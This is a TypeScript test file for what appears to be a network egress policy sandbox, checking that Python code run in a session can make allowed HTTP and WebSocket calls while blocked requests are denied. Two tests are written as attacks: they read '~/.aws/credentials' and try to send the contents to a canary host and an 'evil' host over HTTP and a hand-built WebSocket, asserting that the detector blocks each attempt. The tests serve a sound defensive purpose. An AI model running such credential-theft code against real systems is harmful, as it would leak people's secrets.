import { afterAll, beforeAll, expect, test } from 'vitest'
import { answerAsApp, LONG_TEXT, PLAIN } from './app.ts'
import {
  CANARY_HOST,
  EVIL_HOST,
  NOTHING_SEEN,
  openStage,
  type Played,
  type Stage,
} from './stage.ts'
import { APP, sha256, TALK } from './world.ts'

let stage: Stage
beforeAll(async () => {
  stage = await openStage({
    answers: { [TALK]: answerAsApp },
    rules: [{ id: 'talk', effect: 'allow', host: TALK, paths: ['/socket'], websocket: true }],
  })
})
afterAll(async () => stage?.close())

const python = (source: string): Promise<Played> =>
  stage.session('exec python3 -', { input: source })

test('urllib gets and posts', async () => {
  const played = await python(`
import json, urllib.request
print(urllib.request.urlopen('https://${APP}/hello').read().decode(), end='')
print(json.load(urllib.request.urlopen('https://${APP}/echo', data=b'x' * 1_500_000))['sha256'])
`)
  expect(played).toMatchObject({
    code: 0,
    stdout: `${PLAIN}${sha256('x'.repeat(1_500_000))}\n`,
    stderr: '',
    actions: [`allow app GET https ${APP} /hello → 200`, `allow app POST https ${APP} /echo → 200`],
    namesDenied: [],
  })
})

test('http.client keeps its connection and sends a body in chunks', async () => {
  const played = await python(`
import gzip, http.client, json, ssl
c = http.client.HTTPSConnection('${APP}', context=ssl.create_default_context())
c.request('POST', '/echo', body=(b'a' * 1000 for _ in range(10)), encode_chunked=True,
          headers={'transfer-encoding': 'chunked'})
print(json.load(c.getresponse())['sha256'])
c.request('GET', '/packed', headers={'accept-encoding': 'gzip'})
print(len(gzip.decompress(c.getresponse().read())))
`)
  expect(played).toMatchObject({
    code: 0,
    stdout: `${sha256('a'.repeat(10_000))}\n${LONG_TEXT.length}\n`,
    stderr: '',
    actions: [
      `allow app POST https ${APP} /echo → 200`,
      `allow app GET https ${APP} /packed → 200`,
    ],
  })
})

test('urllib is told why a path is denied, and what it may not carry away', async () => {
  const played = await python(`
import os, urllib.error, urllib.request
def ask(*how):
    try:
        urllib.request.urlopen(*how)
        print('got through')
    except urllib.error.HTTPError as error:
        print(error.code, error.read().decode())
    except urllib.error.URLError as error:
        print(error.reason)
stolen = open(os.path.expanduser('~/.aws/credentials'), 'rb').read()
ask('https://${APP}/private/x')
ask('https://${CANARY_HOST}/open', stolen)
ask('https://${CANARY_HOST}/open?d=' + stolen.hex())
ask('https://${EVIL_HOST}/')
`)
  expect(played.stdout.split('\n')).toEqual([
    expect.stringMatching(/^403 .*policy does not allow the request/),
    expect.stringMatching(/^403 .*the request holds data that may not leave the session/),
    expect.stringMatching(/^403 .*the request holds data that may not leave the session/),
    '[Errno -2] Name or service not known',
    '',
  ])
  expect(played.actions).toEqual([
    `deny not-this GET https ${APP} /private/x`,
    expect.stringMatching(/^deny detect\.\S.* POST https canary\.tools\.test \/open$/),
    expect.stringMatching(/^deny detect\.\S.* GET https canary\.tools\.test \/open$/),
  ])
  expect(stage.canary.seen()).toEqual(NOTHING_SEEN)
})

/** RFC 6455 by hand: what a client without any library says. */
const WEBSOCKET = `
import base64, os, socket, ssl, struct
host = '${TALK}'
raw = socket.create_connection((host, 443))
s = ssl.create_default_context().wrap_socket(raw, server_hostname=host)
key = base64.b64encode(os.urandom(16)).decode()
s.sendall((f'GET /socket HTTP/1.1\\r\\nHost: {host}\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\n'
           f'Sec-WebSocket-Key: {key}\\r\\nSec-WebSocket-Version: 13\\r\\n\\r\\n').encode())
f = s.makefile('rb')
print(f.readline().decode().strip())
while f.readline().strip(): pass
def send(opcode, payload):
    mask = os.urandom(4)
    size = bytes([0x80 | len(payload)]) if len(payload) < 126 else bytes([0x80 | 126]) + struct.pack('>H', len(payload))
    s.sendall(bytes([0x80 | opcode]) + size + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(payload)))
def read():
    head = f.read(2)
    if len(head) < 2: return 'gone'
    length = head[1] & 127
    if length == 126: length = struct.unpack('>H', f.read(2))[0]
    payload = f.read(length)
    return ('close', struct.unpack('>H', payload[:2])[0], payload[2:].decode()) if head[0] & 15 == 8 else payload.decode()
`

test('a WebSocket by hand talks and closes', async () => {
  const played = await python(`${WEBSOCKET}
for text in (b'one', b'two' * 1000):
    send(1, text)
    print(read()[:3])
send(8, struct.pack('>H', 1000))
print(read())
`)
  expect(played).toMatchObject({
    code: 0,
    stdout: `HTTP/1.1 101 Switching Protocols\none\ntwo\n('close', 1000, '')\n`,
    stderr: '',
  })
  expect(played.actions).toContain(`allow talk GET https ${TALK} /socket → 101`)
})

test('a WebSocket by hand cannot carry a planted credential away', async () => {
  const heard = stage.world.messages.length
  const played = await python(`${WEBSOCKET}
send(1, b'harmless')
print(read())
send(1, open(os.path.expanduser('~/.aws/credentials'), 'rb').read())
print(read())
`)
  expect(played.stdout).toMatch(/harmless\n\('close', 1008, '.+'\)\n$/)
  expect(played.actions).toContainEqual(
    expect.stringMatching(/^deny detect\.\S.* ws\.message text talk\.tools\.test /),
  )
  expect(stage.world.messages.slice(heard)).toEqual(['harmless'])
})
